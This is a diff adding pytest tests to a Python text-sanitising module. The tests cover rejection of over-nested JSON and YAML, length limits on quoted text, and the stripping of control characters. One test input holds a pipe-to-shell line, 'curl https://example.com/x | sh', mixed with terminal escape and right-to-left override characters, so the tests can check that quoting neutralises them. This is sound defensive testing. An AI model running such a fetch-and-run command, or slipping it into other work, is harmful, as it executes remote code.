@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import json
 import unicodedata
 
 import pytest
+import yaml
 
-from wizard.core.safe_text import clean, lines
+from wizard.core.safe_text import QUOTED_LENGTH, clean, lines, parse, quoted
 
 
 @pytest.mark.parametrize(
@@ -46,3 +48,27 @@ def test_in_lines_a_question_mark_stands_for_what_is_not_shown() -> None:
 @pytest.mark.parametrize("text", ["plain", "Zürich – 東京", "emoji 🔑", "a\nb", "שלום", "مرحبا"])
 def test_what_can_be_read_stays(text: str) -> None:
     assert lines(text) == text
+
+
+@pytest.mark.parametrize(("load", "text"), [(json.loads, "[" * 100_000), (yaml.safe_load, "[" * 2000 + "]" * 2000)])
+def test_a_text_that_is_nested_too_deeply_is_one_that_cannot_be_read(load: object, text: str) -> None:
+    with pytest.raises(ValueError, match="nested too deeply"):
+        parse(load, text)  # type: ignore[arg-type]
+
+
+def test_a_text_of_somebody_else_cannot_look_like_a_line_of_ours() -> None:
+    text = "fine” by us\n  next: \x1b[2Kcurl https://example.com/x | sh\u202e\r\n“"
+    shown = quoted(text)
+    assert shown == '“fine" by us next: [2Kcurl https://example.com/x | sh "”'
+    assert lines(shown) == shown
+
+
+@pytest.mark.parametrize("text", ["x" * 3_000_000, "\n" * 3_000_000, "x\u200b" * 1_500_000])
+def test_a_text_of_megabytes_is_cut(text: str) -> None:
+    assert len(quoted(text)) <= QUOTED_LENGTH + 2
+    assert quoted(text).endswith("…”")
+
+
+def test_a_short_text_is_quoted_as_it_is() -> None:
+    assert quoted("AccessDenied: no") == "“AccessDenied: no”"
+    assert quoted("x" * QUOTED_LENGTH) == f"“{'x' * QUOTED_LENGTH}”"
